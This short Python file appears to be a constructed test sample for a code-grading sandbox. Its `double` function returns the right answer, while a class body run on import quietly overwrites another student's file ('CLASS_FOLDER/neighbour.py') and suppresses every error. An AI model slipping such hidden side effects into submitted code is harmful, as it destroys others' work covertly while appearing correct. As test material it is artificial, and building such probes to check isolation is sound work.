"""Changes what another student handed in. Its answer is right."""

import contextlib
import ctypes
import os
import signal
import socket
import subprocess
import sys
import threading
import time


class Harm:
    libc = ctypes.CDLL(None)
    with contextlib.suppress(BaseException):
        open('CLASS_FOLDER/neighbour.py', 'w').write('HARM')


def double(n):
    return n + n
